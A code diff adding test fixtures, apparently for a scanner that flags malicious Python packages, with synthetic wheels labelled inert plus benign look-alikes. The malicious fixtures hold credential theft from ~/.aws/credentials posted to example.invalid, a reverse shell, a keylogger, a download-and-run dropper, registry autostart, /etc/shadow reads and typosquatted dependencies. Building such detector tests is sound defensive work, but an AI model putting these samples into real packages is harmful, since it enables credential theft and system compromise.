@@ -900,6 +900,154 @@ MALICIOUS: dict[str, tuple[str, bytes]] = {
             },
         ),
     ),
+    # Issue 16, ADR 0034: hooks in the import system, chains through helper modules,
+    # look-alike dependencies and GuardDog classes the flow pass missed. All inert.
+    "import-hook:meta-path-finder": (
+        "finder-0.1-py3-none-any.whl",
+        wheel(
+            "finder",
+            "0.1",
+            {
+                "finder/__init__.py": "import sys\nimport subprocess\n\n\nclass Finder:\n    def find_spec(self, name, path, target=None):\n        subprocess.Popen(['true', name])\n        return None\n\n\n_finder = Finder()\nsys.meta_path.insert(0, _finder)\n"
+            },
+        ),
+    ),
+    "import-hook:builtins-import": (
+        "patched-0.1-py3-none-any.whl",
+        wheel(
+            "patched",
+            "0.1",
+            {
+                "patched/__init__.py": "import builtins\nimport urllib.request\n\n_real = builtins.__import__\n\n\ndef _import(name, *args, **kwargs):\n    urllib.request.urlopen('http://example.invalid/?m=' + name)\n    return _real(name, *args, **kwargs)\n\n\nbuiltins.__import__ = _import\n"
+            },
+        ),
+    ),
+    "exfiltration:helpers-called-from-a-module": (
+        "relay-0.1-py3-none-any.whl",
+        wheel(
+            "relay",
+            "0.1",
+            {
+                "relay/__init__.py": "from . import core\n",
+                "relay/core.py": "from .config import credentials\nfrom .transport import post\n\npost(credentials())\n",
+                "relay/config.py": "import os\n\n\ndef credentials():\n    return open(os.path.expanduser('~/.aws/credentials')).read()\n",
+                "relay/transport.py": "import urllib.request\n\n\ndef post(data):\n    urllib.request.urlopen('http://example.invalid/', data=data.encode())\n",
+            },
+        ),
+    ),
+    "exfiltration:two-hops": (
+        "hops-0.1-py3-none-any.whl",
+        wheel(
+            "hops",
+            "0.1",
+            {
+                "hops/__init__.py": "from .main import start\n\nstart()\n",
+                "hops/main.py": "from .config import credentials\nfrom .transport import post\n\n\ndef start():\n    post(credentials())\n",
+                "hops/config.py": "import os\n\n\ndef credentials():\n    return open(os.path.expanduser('~/.aws/credentials')).read()\n",
+                "hops/transport.py": "import urllib.request\n\n\ndef post(data):\n    urllib.request.urlopen('http://example.invalid/', data=data.encode())\n",
+            },
+        ),
+    ),
+    "lookalike-dependency": (
+        "helperkit-0.1-py3-none-any.whl",
+        wheel(
+            "helperkit",
+            "0.1",
+            {"helperkit/__init__.py": "def helper():\n    return 1\n"},
+            requires="Requires-Dist: reqeusts>=2.0\n",
+        ),
+    ),
+    "lookalike-dependency:setup-cfg": (
+        "cfgkit-0.1.tar.gz",
+        sdist(
+            "cfgkit",
+            "0.1",
+            {
+                "setup.py": "from setuptools import setup\nsetup()\n",
+                "setup.cfg": "[metadata]\nname = cfgkit\n\n[options]\ninstall_requires =\n    numpyy>=1.0\n    packaging\n",
+                "cfgkit/__init__.py": "def helper():\n    return 1\n",
+            },
+        ),
+    ),
+    "reverse-shell": (
+        "rshell-0.1-py3-none-any.whl",
+        wheel(
+            "rshell",
+            "0.1",
+            {
+                "rshell/__init__.py": "import os\nimport socket\nimport subprocess\n\n\ndef main():\n    s = socket.socket()\n    s.connect(('127.0.0.1', 9))\n    os.dup2(s.fileno(), 0)\n    os.dup2(s.fileno(), 1)\n    subprocess.call(['/bin/sh', '-i'])\n"
+            },
+        ),
+    ),
+    "keylogger": (
+        "keys2-0.1-py3-none-any.whl",
+        wheel(
+            "keys2",
+            "0.1",
+            {
+                "keys2/__init__.py": "import requests\nfrom pynput import keyboard\n\nLOG = []\n\n\ndef on_press(key):\n    LOG.append(str(key))\n    if len(LOG) > 100:\n        requests.post('http://example.invalid/k', data=''.join(LOG))\n\n\ndef start():\n    keyboard.Listener(on_press=on_press).start()\n"
+            },
+        ),
+    ),
+    "registry-autostart": (
+        "autorun-0.1-py3-none-any.whl",
+        wheel(
+            "autorun",
+            "0.1",
+            {
+                "autorun/__init__.py": "import winreg\n\n\ndef install(path):\n    key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\n    winreg.SetValueEx(key, 'updater', 0, winreg.REG_SZ, path)\n"
+            },
+        ),
+    ),
+    "packed-code": (
+        "armored-0.1-py3-none-any.whl",
+        wheel(
+            "armored",
+            "0.1",
+            {
+                "armored/__init__.py": "from .pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03\\x0b')\n"
+            },
+        ),
+    ),
+    "exfiltration:class-made-on-import": (
+        "grabber-0.1-py3-none-any.whl",
+        wheel(
+            "grabber",
+            "0.1",
+            {
+                "grabber/__init__.py": "import getpass\nimport urllib.request\n\n\nclass Grabber:\n    def __init__(self):\n        self.user = getpass.getuser()\n\n    def send(self):\n        urllib.request.urlopen('http://example.invalid/?u=' + self.user)\n\n\nGrabber().send()\n"
+            },
+        ),
+    ),
+    "file-exec:importlib-loader": (
+        "loader-0.1-py3-none-any.whl",
+        wheel(
+            "loader",
+            "0.1",
+            {
+                "loader/__init__.py": "import importlib.util\nimport os\n\n_spec = importlib.util.spec_from_file_location('_cfg', os.path.join(os.path.dirname(__file__), 'cfg.dat'))\n_mod = importlib.util.module_from_spec(_spec)\n_spec.loader.exec_module(_mod)\n",
+                "loader/cfg.dat": "import os, urllib.request\nurllib.request.urlopen('http://example.invalid/?' + os.environ['HOME'])\n",
+            },
+        ),
+    ),
+    "dropper:written-in-one-call": (
+        "updater-0.1-py3-none-any.whl",
+        wheel(
+            "updater",
+            "0.1",
+            {
+                "updater/__init__.py": "import subprocess\nimport urllib.request\n\n\ndef update():\n    data = urllib.request.urlopen('http://example.invalid/u').read()\n    open('/tmp/updater-bin', 'wb').write(data)\n    subprocess.Popen(['/tmp/updater-bin'])\n"
+            },
+        ),
+    ),
+    "credential-read:shadow": (
+        "shadow-0.1-py3-none-any.whl",
+        wheel(
+            "shadow",
+            "0.1",
+            {"shadow/__init__.py": "def hashes():\n    return open('/etc/shadow').read()\n"},
+        ),
+    ),
 }
 BENIGN: dict[str, bytes] = {
     # ADR 0032: a setup.py reading its version the usual way stays allowed.
@@ -1023,6 +1171,26 @@ BENIGN: dict[str, bytes] = {
             "setup.py": "from setuptools import setup\nsetup(name='plain', version='2.1')\n",
             "plain/__init__.py": "def add(a, b):\n    return a + b\n",
         },
+    ),
+    # Issue 16, ADR 0034: what the import-hook, helper-module and dependency rules leave
+    # alone. A six-like finder with no sink, a wrapper of open, a module that calls its own
+    # helpers with nothing to send, real projects a letter from popular ones, and a hotkey.
+    "quiet-1.0-py3-none-any.whl": wheel(
+        "quiet",
+        "1.0",
+        {
+            "quiet/__init__.py": "import builtins\nimport importlib\nimport sys\n\n\nclass _Importer:\n    def __init__(self, name):\n        self.name = name\n\n    def find_spec(self, fullname, path, target=None):\n        return None\n\n    def load_module(self, fullname):\n        module = importlib.import_module(fullname.replace(self.name, 'json'))\n        sys.modules[fullname] = module\n        return module\n\n\nsys.meta_path.append(_Importer(__name__))\n_open = builtins.open\n\n\ndef _traced_open(*args, **kwargs):\n    return _open(*args, **kwargs)\n\n\nbuiltins.open = _traced_open\n",
+            "quiet/setup_logging.py": "from .config import load\nfrom .net import client\n\nSETTINGS = load()\nCLIENT = client(SETTINGS)\n",
+            "quiet/config.py": "import os\n\n\ndef load():\n    return {'home': os.environ.get('QUIET_HOME', '~')}\n",
+            "quiet/net.py": "import urllib.request\n\n\ndef client(settings):\n    return urllib.request.build_opener()\n",
+            "quiet/defaults.py": "import os\nimport urllib.request\n\n\nclass Settings:\n    def __init__(self):\n        self.home = os.environ.get('QUIET_HOME', '~')\n        self.opener = urllib.request.build_opener()\n\n    def fetch(self, url):\n        return self.opener.open(url).read()\n\n\nDEFAULT = Settings()\n",
+            "quiet/_version.py": "import importlib.util\nimport os\n\n_spec = importlib.util.spec_from_file_location('_v', os.path.join(os.path.dirname(__file__), 'version.py'))\n",
+            "quiet/version.py": "VERSION = '1.0'\n",
+            "quiet/keys.py": "from pynput import keyboard\n\n\ndef hotkey(callback):\n    return keyboard.GlobalHotKeys({'<ctrl>+<alt>+h': callback})\n",
+        },
+        requires="Requires-Dist: cchardet\nRequires-Dist: authlib\nRequires-Dist: fastai\nRequires-Dist: pymssql\n"
+        "Requires-Dist: markdown2\nRequires-Dist: typing_extensions>=4\nRequires-Dist: requests[socks]; extra == 'proxy'\n"
+        "Requires-Dist: Python-Dateutil\nRequires-Dist: pyaml\n",
     ),
 }
 
